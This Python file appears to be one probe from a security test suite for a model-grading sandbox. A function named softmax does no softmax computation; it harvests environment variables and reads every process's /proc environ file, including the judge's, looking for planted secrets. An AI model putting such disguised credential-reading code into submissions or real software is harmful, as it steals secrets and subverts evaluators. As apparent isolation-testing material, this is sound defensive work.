"""Reads its own environment, and that of every process that it can name.

Family: reading what is secret
Wall: PID namespace; the environment is cleared; processes of ours are not dumpable
Marks: 0
Reads: yes
Says: LOOT
"""

import os


def softmax(logits, dim=-1):
    found = [value for name, value in os.environ.items() if name.startswith("TORCHGRADE_PL")]
    for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["@JUDGE@"]:
        try:
            text = open(f"/proc/{pid}/environ", errors="replace").read()
            found += [part for part in text.split("\0") if "PLANTED" in part]
        except OSError:
            pass
    raise ValueError(f"LOOT {found}")
